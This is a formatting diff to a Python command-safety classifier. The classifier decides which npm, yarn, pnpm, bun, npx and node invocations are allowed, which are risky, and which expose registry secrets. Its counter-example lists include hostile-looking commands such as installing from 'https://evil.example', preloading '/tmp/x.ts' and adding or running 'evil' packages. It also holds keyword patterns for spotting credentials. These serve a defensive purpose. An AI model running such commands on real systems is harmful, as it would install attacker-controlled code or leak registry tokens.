@@ -84,8 +84,14 @@ _LOADS_FILES = ("reporter", "format", "env", "parser", "filter", "provider", "po
 
 def is_risky_script(name: str) -> bool:
     """Scripts whose names say that they leave the machine or destroy data: asked for also with the profile."""
-    words = name.lower().replace(":", " ").replace("-", " ").replace("_", " ").replace("/", " ").replace(".", " ").split()
-    return bool(words) and words[0] not in ("build", "test", "lint", "check", "typecheck") and any(w in _RISKY for w in words)
+    words = (
+        name.lower().replace(":", " ").replace("-", " ").replace("_", " ").replace("/", " ").replace(".", " ").split()
+    )
+    return (
+        bool(words)
+        and words[0] not in ("build", "test", "lint", "check", "typecheck")
+        and any(w in _RISKY for w in words)
+    )
 
 
 def script_arguments(words: tuple[Word, ...], call: Call, by: str) -> list[Fact]:
@@ -94,7 +100,9 @@ def script_arguments(words: tuple[Word, ...], call: Call, by: str) -> list[Fact]
         text = word.value
         if text is None:
             if not word.glob and not word.prefix:
-                return [unknown("expansion", f"`{word.text}` may become an option of what `{by}` runs", call, word.text)]
+                return [
+                    unknown("expansion", f"`{word.text}` may become an option of what `{by}` runs", call, word.text)
+                ]
             text = word.prefix
         name, _, value = text.partition("=")
         value = value or (words[index + 1].text if index + 1 < len(words) else "")
@@ -109,7 +117,9 @@ def _loads(option: str, value: str) -> bool:
     """Whether an option of whatever runner may load code: by its name, or because its value is a file where a name is usual."""
     if option.startswith("--"):
         name = option.lower()
-        return any(part in name for part in _LOADS) or (any(part in name for part in _LOADS_FILES) and is_code_file(value))
+        return any(part in name for part in _LOADS) or (
+            any(part in name for part in _LOADS_FILES) and is_code_file(value)
+        )
     if option.startswith("-"):
         return option[1:2] in ("c", "r", "e") or (option[1:2] in ("f", "R", "u") and is_code_file(value))
     return False
@@ -131,7 +141,13 @@ def run_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         )
     name = parsed.operands[0].value
     return _script(
-        (*tool.name.split(), name or ""), tool, call, analyst, facts_of(tool, head, parsed, analyst), (*parsed.operands[1:], *tail), name
+        (*tool.name.split(), name or ""),
+        tool,
+        call,
+        analyst,
+        facts_of(tool, head, parsed, analyst),
+        (*parsed.operands[1:], *tail),
+        name,
     )
 
 
@@ -151,23 +167,41 @@ def named_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
 
 
 def _script(
-    key: tuple[str, ...], tool: Tool, call: Call, analyst: Analyst, facts: tuple[Fact, ...], arguments: tuple[Word, ...], name: str | None
+    key: tuple[str, ...],
+    tool: Tool,
+    call: Call,
+    analyst: Analyst,
+    facts: tuple[Fact, ...],
+    arguments: tuple[Word, ...],
+    name: str | None,
 ) -> Outcome:
     by = " ".join(key)
     more = [*place_facts(tool, call, analyst), *script_arguments(arguments, call, by)]
     if name is None:
         more.append(unknown("expansion", "the script's name is not known", call))
     if name == "env":
-        more.append(unknown("secrets", "where package.json has no such script, `env` prints every environment variable", call))
+        more.append(
+            unknown("secrets", "where package.json has no such script, `env` prints every environment variable", call)
+        )
     if name is None or is_risky_script(name):
         return Outcome(
             Action(
-                key, Kind.BUILD, rule=tool.name, description="runs a script of package.json whose name says that it changes more than files"
+                key,
+                Kind.BUILD,
+                rule=tool.name,
+                description="runs a script of package.json whose name says that it changes more than files",
             ),
             (*facts, *more),
         )
     return Outcome(
-        Action(key, Kind.BUILD, rule=tool.name, allowed=True, profile="node-dev", description="runs a script of package.json"),
+        Action(
+            key,
+            Kind.BUILD,
+            rule=tool.name,
+            allowed=True,
+            profile="node-dev",
+            description="runs a script of package.json",
+        ),
         (*facts, *more),
     )
 
@@ -189,7 +223,9 @@ _NPM_FLAGS = (
     "--include-workspace-root -iwr --no-audit --no-fund --offline --prefer-offline "
     "--all -a --long -l --parseable -p --no-progress --no-update-notifier --production --link --unicode -h --help"
 )
-_NPM_VALUES = "--loglevel -w --workspace --omit --include --depth --audit-level --package-lock-only --searchlimit --before"
+_NPM_VALUES = (
+    "--loglevel -w --workspace --omit --include --depth --audit-level --package-lock-only --searchlimit --before"
+)
 _NPM_ASKS = {
     "--prefix -C": "works on another package",
     "--script-shell": "runs another shell",
@@ -203,7 +239,14 @@ _NPM_ASKS = {
 
 
 def _npm(
-    program: str, name: str, description: str, *, kind: Kind = Kind.READ, flags: str = "", asks: dict[str, str] | None = None, **more: Any
+    program: str,
+    name: str,
+    description: str,
+    *,
+    kind: Kind = Kind.READ,
+    flags: str = "",
+    asks: dict[str, str] | None = None,
+    **more: Any,
 ) -> Tool:
     more.setdefault("operands", INERT)
     return Tool(
@@ -235,13 +278,19 @@ def _install(program: str, name: str, description: str, kind: Kind = Kind.INSTAL
 def _config_get(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     outcome = apply(tool.replace(special=None), call, analyst)
     secret = next(
-        (w for w in call.words if any(s in (w.value or w.text).lower() for s in ("_auth", "_password", "token", "//", "key", "secret"))),
+        (
+            w
+            for w in call.words
+            if any(s in (w.value or w.text).lower() for s in ("_auth", "_password", "token", "//", "key", "secret"))
+        ),
         None,
     )
     return (
         outcome
         if secret is None
-        else outcome.replace(facts=(*outcome.facts, unknown("secret", "shows a registry's password or token", call, secret.text)))
+        else outcome.replace(
+            facts=(*outcome.facts, unknown("secret", "shows a registry's password or token", call, secret.text))
+        )
     )
 
 
@@ -282,7 +331,14 @@ def _npm_rows() -> dict[str, Tool]:
             )
     for alias in ("run", "run-script", "rum", "urn"):
         rows[alias] = _npm("npm", "run", "runs a script of package.json", kind=Kind.BUILD, special=run_script)
-    for alias, name in (("test", "test"), ("t", "test"), ("tst", "test"), ("start", "start"), ("stop", "stop"), ("restart", "restart")):
+    for alias, name in (
+        ("test", "test"),
+        ("t", "test"),
+        ("tst", "test"),
+        ("start", "start"),
+        ("stop", "stop"),
+        ("restart", "restart"),
+    ):
         rows[alias] = _npm("npm", name, "runs a script of package.json", kind=Kind.BUILD, special=named_script)
     rows |= {
         "audit": _npm(
@@ -340,14 +396,29 @@ def _npm_rows() -> dict[str, Tool]:
             },
         ),
         "owner": Tool(
-            "npm owner", Kind.READ, "who may publish", key_words=2, subcommands={"ls": _npm("npm", "owner ls", "shows who may publish")}
+            "npm owner",
+            Kind.READ,
+            "who may publish",
+            key_words=2,
+            subcommands={"ls": _npm("npm", "owner ls", "shows who may publish")},
         ),
         "dist-tag": Tool(
-            "npm dist-tag", Kind.READ, "tags of a package", key_words=2, subcommands={"ls": _npm("npm", "dist-tag ls", "lists tags")}
+            "npm dist-tag",
+            Kind.READ,
+            "tags of a package",
+            key_words=2,
+            subcommands={"ls": _npm("npm", "dist-tag ls", "lists tags")},
         ),
         "version": _npm("npm", "version", "shows versions", operands=NONE),
         "pack": _npm(
-            "npm", "pack", "packs this package", kind=Kind.BUILD, special=runner, profile="node-dev", operands=NONE, flags="--dry-run"
+            "npm",
+            "pack",
+            "packs this package",
+            kind=Kind.BUILD,
+            special=runner,
+            profile="node-dev",
+            operands=NONE,
+            flags="--dry-run",
         ),
         "exec": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
         "x": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
@@ -359,13 +430,20 @@ def _npm_rows() -> dict[str, Tool]:
             danger="publishes to the registry: others install it, and it can hardly be taken back",
         ),
         "unpublish": _install(
-            "npm", "unpublish", "removes a published package", Kind.DESTRUCTIVE, danger="removes a published package that others depend on"
+            "npm",
+            "unpublish",
+            "removes a published package",
+            Kind.DESTRUCTIVE,
+            danger="removes a published package that others depend on",
         ),
         "rebuild": _install("npm", "rebuild", "runs build scripts of installed packages"),
         "init": _install("npm", "init", "makes a package, or runs an initializer"),
     }
     for names, what in (
-        ("install i in ins inst insta instal isnt isnta isntal isntall add", "fetches and installs packages, and runs their scripts"),
+        (
+            "install i in ins inst insta instal isnt isnta isntal isntall add",
+            "fetches and installs packages, and runs their scripts",
+        ),
         ("update up upgrade udpate", "updates packages"),
         ("uninstall un remove rm r unlink", "removes packages"),
         ("link ln", "links a package"),
@@ -385,7 +463,11 @@ def _npm_rows() -> dict[str, Tool]:
             flags="--ignore-scripts --legacy-peer-deps --no-bin-links --strict-peer-deps",
             asks={k: v for k, v in _NPM_ASKS.items() if "--ignore-scripts" not in k},
             examples=("npm ci", "npm ci --no-audit --no-fund"),
-            counter_examples=("npm ci --registry https://evil.example", "npm ci --script-shell=x", "npm ci --prefix /tmp/x"),
+            counter_examples=(
+                "npm ci --registry https://evil.example",
+                "npm ci --script-shell=x",
+                "npm ci --prefix /tmp/x",
+            ),
         )
     rows["c"] = rows["config"]
     for name in ("exec", "x"):
@@ -506,7 +588,10 @@ def _yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     if not rest:
         if parsed.has("-v", "--version", "-h", "--help"):
             return Outcome(
-                Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version"), tuple(facts)
+                Action(
+                    (tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version"
+                ),
+                tuple(facts),
             )
         return _frozen(tool, head, analyst, facts)
     name = rest[0].value
@@ -518,14 +603,19 @@ def _yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         if known and at < len(rest):
             rest, name = rest[at:], rest[at].value
     if name == "run" and len(rest) == 1:
-        return Outcome(Action((tool.name, "run"), Kind.READ, rule=tool.name, allowed=True, description="lists the scripts"), tuple(facts))
+        return Outcome(
+            Action((tool.name, "run"), Kind.READ, rule=tool.name, allowed=True, description="lists the scripts"),
+            tuple(facts),
+        )
     if name == "install":
         return _frozen(tool, call_after(call, rest[1:]), analyst, facts)
     if name == "run" and len(rest) > 1:
         rest, name = rest[1:], rest[1].value
     elif name in ("exec", "dlx"):
         found = as_tool((tool.name, name), (*rest[1:], *tail), call, analyst)
-        return found.replace(facts=(*facts, *found.facts)) if found else _known_yarn(tool, name, rest, call, tuple(facts))
+        return (
+            found.replace(facts=(*facts, *found.facts)) if found else _known_yarn(tool, name, rest, call, tuple(facts))
+        )
     elif name in _YARN_ASKS:
         return _known_yarn(tool, name, rest, call, tuple(facts))
     if name is not None and name in _YARN_LOOKS.split():
@@ -578,14 +668,18 @@ def _frozen(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outc
     )
     outcome = from_lock(frozen, call, analyst)
     if not parse(frozen, call.words[1:]).has("--frozen-lockfile", "--immutable"):
-        action = outcome.action.replace(allowed=False, profile="", description="installs packages, and may change the lock file")
+        action = outcome.action.replace(
+            allowed=False, profile="", description="installs packages, and may change the lock file"
+        )
         return Outcome(action.replace(target=packages(call.words[1:])), tuple(facts))
     return outcome.replace(facts=(*facts, *outcome.facts))
 
 
 def _shown(tool: Tool, name: str, row: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
     outcome = apply(row, call, analyst)
-    return outcome.replace(action=outcome.action.replace(key=(tool.name, name), rule=f"{tool.name} {name}"), facts=(*facts, *outcome.facts))
+    return outcome.replace(
+        action=outcome.action.replace(key=(tool.name, name), rule=f"{tool.name} {name}"), facts=(*facts, *outcome.facts)
+    )
 
 
 def _known_yarn(tool: Tool, name: str, rest: tuple[Word, ...], call: Call, facts: tuple[Fact, ...]) -> Outcome:
@@ -651,14 +745,22 @@ def pnpm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     rest = head.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
     if not rest:
         return Outcome(
-            Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version or the help"),
+            Action(
+                (tool.name, "--version"),
+                Kind.READ,
+                rule=tool.name,
+                allowed=True,
+                description="shows the version or the help",
+            ),
             tuple(facts),
         )
     name = rest[0].value
     if name in ("run", "run-script") and len(rest) > 1:
         rest, name = rest[1:], rest[1].value
     elif name in ("recursive", "multi", "m"):
-        return Outcome(Action((tool.name, name), Kind.INSTALL, rule=tool.name, description="works on all packages"), tuple(facts))
+        return Outcome(
+            Action((tool.name, name), Kind.INSTALL, rule=tool.name, description="works on all packages"), tuple(facts)
+        )
     elif name in ("t", "tst"):
         name = "test"
     elif name is not None and name in _PNPM_LOOKS.split():
@@ -670,11 +772,17 @@ def pnpm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         return found.replace(facts=(*facts, *found.facts)) if found else _pnpm_known(tool, name, rest, tuple(facts))
     elif name in _PNPM_ASKS or name in ("run", None):
         return _pnpm_known(tool, name or "", rest, tuple(facts))
-    elif not _has_script(name, call, analyst) and (found := as_tool((tool.name,), (*rest, *tail), call, analyst)) is not None:
+    elif (
+        not _has_script(name, call, analyst)
+        and (found := as_tool((tool.name,), (*rest, *tail), call, analyst)) is not None
+    ):
         return found.replace(facts=(*facts, *found.facts))
     elif not _sounds_like_script(name) and not _has_script(name, call, analyst):
         return Outcome(
-            Action((tool.name, name), Kind.WRAPPER, rule=tool.name, description="runs a script or a program of that name"), tuple(facts)
+            Action(
+                (tool.name, name), Kind.WRAPPER, rule=tool.name, description="runs a script or a program of that name"
+            ),
+            tuple(facts),
         )
     return _script((tool.name, "run", name or ""), tool, call, analyst, tuple(facts), (*rest[1:], *tail), name)
 
@@ -692,7 +800,13 @@ def _pnpm_known(tool: Tool, name: str, rest: tuple[Word, ...], facts: tuple[Fact
     }
     if (name, second) in looks and len(rest) == 2:
         return Outcome(
-            Action((tool.name, name, second or ""), Kind.READ, rule=f"{tool.name} {name}", allowed=True, description="shows settings"),
+            Action(
+                (tool.name, name, second or ""),
+                Kind.READ,
+                rule=f"{tool.name} {name}",
+                allowed=True,
+                description="shows settings",
+            ),
             facts,
         )
     kind = (
@@ -726,17 +840,25 @@ def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     words = call.words
     first = words[1].value if len(words) > 1 else None
     if first in ("--version", "-v", "--revision", "--help", "-h") and len(words) == 2:
-        return Outcome(Action(("bun", "--version"), Kind.READ, rule="bun", allowed=True, description="shows the version"))
+        return Outcome(
+            Action(("bun", "--version"), Kind.READ, rule="bun", allowed=True, description="shows the version")
+        )
     if first == "test":
         return apply(_BUN_TEST, call_after(call, words[2:]), analyst)
     if first == "run" and len(words) > 2:
         name = words[2].value
-        if name is None or name.startswith("-") or "/" in name or name.endswith((".js", ".ts", ".mjs", ".cjs", ".tsx", ".jsx")):
+        if (
+            name is None
+            or name.startswith("-")
+            or "/" in name
+            or name.endswith((".js", ".ts", ".mjs", ".cjs", ".tsx", ".jsx"))
+        ):
             return (
                 project_file(tool, call, analyst, words[2])
                 if name is not None and not name.startswith("-")
                 else Outcome(
-                    Action(("bun", "run"), Kind.CODE, rule="bun run"), (unknown("option", "what bun would run is not known", call),)
+                    Action(("bun", "run"), Kind.CODE, rule="bun run"),
+                    (unknown("option", "what bun would run is not known", call),),
                 )
             )
         arguments = tuple(w for w in words[3:] if w.value != "--")
@@ -746,7 +868,12 @@ def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
                 return found
             if not _sounds_like_script(name):  # bun takes it for a program then
                 return Outcome(
-                    Action(("bun", "run", name), Kind.WRAPPER, rule="bun run", description="runs a script or a program of that name")
+                    Action(
+                        ("bun", "run", name),
+                        Kind.WRAPPER,
+                        rule="bun run",
+                        description="runs a script or a program of that name",
+                    )
                 )
         return _script(("bun", "run", name), tool.replace(name="bun run"), call, analyst, (), arguments, name)
     if first == "x" and (found := as_tool(("bun", "x"), words[2:], call, analyst)) is not None:
@@ -760,7 +887,15 @@ def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         and words[2].value in ("ls", "bin", "cache", "hash", "hash-string", "default-trusted", "whoami")
         and len(words) == 3
     ):
-        return Outcome(Action(("bun", "pm", words[2].value or ""), Kind.READ, rule="bun pm", allowed=True, description="shows packages"))
+        return Outcome(
+            Action(
+                ("bun", "pm", words[2].value or ""),
+                Kind.READ,
+                rule="bun pm",
+                allowed=True,
+                description="shows packages",
+            )
+        )
     if first in ("outdated", "why", "audit") and len(words) == 2:
         return Outcome(Action(("bun", first), Kind.READ, rule="bun", allowed=True, description="shows packages"))
     if first is not None and first.endswith((".js", ".ts", ".mjs", ".tsx", ".jsx")):
@@ -768,7 +903,14 @@ def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     kind = Kind.INSTALL if first in ("install", "i", "add", "remove", "update", "link", "ci") else Kind.WRAPPER
     facts = () if kind == Kind.INSTALL else (unknown("inline code", "bun runs code or a program", call),)
     return Outcome(
-        Action(("bun", first or ""), kind, rule="bun", description="installs packages or runs code", target=packages(words[2:])), facts
+        Action(
+            ("bun", first or ""),
+            kind,
+            rule="bun",
+            description="installs packages or runs code",
+            target=packages(words[2:]),
+        ),
+        facts,
     )
 
 
@@ -789,7 +931,14 @@ _BUN_TEST = Tool(
         "--coverage-dir": "writes elsewhere",
     },
     examples=("bun test", "bun run build", "bun --version"),
-    counter_examples=("bun test --preload /tmp/x.ts", "bun -e 'x()'", "bun x evil", "bun run ./evil.ts", "bun add evil", "bun run deploy"),
+    counter_examples=(
+        "bun test --preload /tmp/x.ts",
+        "bun -e 'x()'",
+        "bun x evil",
+        "bun run ./evil.ts",
+        "bun add evil",
+        "bun run deploy",
+    ),
 )
 
 # -- npx and its kin --------------------------------------------------------------------------------------------------------------------
@@ -802,18 +951,39 @@ def npx(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         at += 1
     name = words[at].value if at < len(words) else None
     if len(words) == 2 and name in ("--version", "-v", "--help", "-h"):
-        return Outcome(Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version"))
+        return Outcome(
+            Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version")
+        )
     found = as_tool((tool.name,), words[at:], call, analyst)
     if found is not None:
         return found
     shown = packages(words[at:])
     return Outcome(
-        Action((tool.name, name or ""), Kind.WRAPPER, rule=tool.name, description="fetches a package and runs it", target=shown),
+        Action(
+            (tool.name, name or ""),
+            Kind.WRAPPER,
+            rule=tool.name,
+            description="fetches a package and runs it",
+            target=shown,
+        ),
         (unknown("package runner", f"`{tool.name}` fetches and runs what it is given", call, shown),),
     )
 
 
-_NPX_INERT = ("--no-install", "--no", "--offline", "--silent", "-s", "--quiet", "-q", "--", "-y", "--yes", "--bun", "--prefer-offline")
+_NPX_INERT = (
+    "--no-install",
+    "--no",
+    "--offline",
+    "--silent",
+    "-s",
+    "--quiet",
+    "-q",
+    "--",
+    "-y",
+    "--yes",
+    "--bun",
+    "--prefer-offline",
+)
 
 # -- node and deno ----------------------------------------------------------------------------------------------------------------------
 
@@ -834,14 +1004,18 @@ _NODE = Tool(
 def node(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     words = call.words
     if len(words) == 2 and words[1].value in ("--version", "-v", "--help", "-h", "--v8-options", "--completion-bash"):
-        return Outcome(Action(("node", "--version"), Kind.READ, rule="node", allowed=True, description="shows the version"))
+        return Outcome(
+            Action(("node", "--version"), Kind.READ, rule="node", allowed=True, description="shows the version")
+        )
     if len(words) == 3 and words[1].value in ("--check", "-c") and words[2].value is not None:
         return Outcome(
             Action(("node", "--check"), Kind.READ, rule="node --check", allowed=True, description="checks the syntax"),
             tuple(place_facts(tool, call, analyst)),
         )
     testing = any(w.value == "--test" for w in words[1:])
-    given = call.replace(words=tuple(w for w in words if w.value != "--test" and not (testing and w.value == "--watch")))
+    given = call.replace(
+        words=tuple(w for w in words if w.value != "--test" and not (testing and w.value == "--watch"))
+    )
     parsed = parse(_NODE, given.words[1:])
     facts = facts_of(_NODE, given, parsed, analyst)
     facts += tuple(
@@ -851,10 +1025,19 @@ def node(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     )
     if testing:
         action = Action(
-            ("node", "--test"), Kind.BUILD, rule="node --test", allowed=True, profile="node-dev", description="runs the project's tests"
+            ("node", "--test"),
+            Kind.BUILD,
+            rule="node --test",
+            allowed=True,
+            profile="node-dev",
+            description="runs the project's tests",
         )
         return Outcome(action, (*facts, *place_facts(tool, call, analyst)))
-    if parsed.operands and not (parsed.operands[0].value or "").startswith(("/dev/", "/proc/")) and parsed.operands[0].value != "-":
+    if (
+        parsed.operands
+        and not (parsed.operands[0].value or "").startswith(("/dev/", "/proc/"))
+        and parsed.operands[0].value != "-"
+    ):
         return project_file(_NODE, call, analyst, parsed.operands[0], facts)
     return Outcome(
         Action(("node", "-"), Kind.INLINE, rule="node", description="runs JavaScript"),
@@ -966,7 +1149,9 @@ TOOLS: dict[str, Tool] = {
             "pnpm touch x",
         ),
     ),
-    "bun": Tool("bun", Kind.BUILD, "packages, scripts and tests", special=bun, key_words=3, subcommands={"test": _BUN_TEST}),
+    "bun": Tool(
+        "bun", Kind.BUILD, "packages, scripts and tests", special=bun, key_words=3, subcommands={"test": _BUN_TEST}
+    ),
     **{
         name: Tool(
             name,
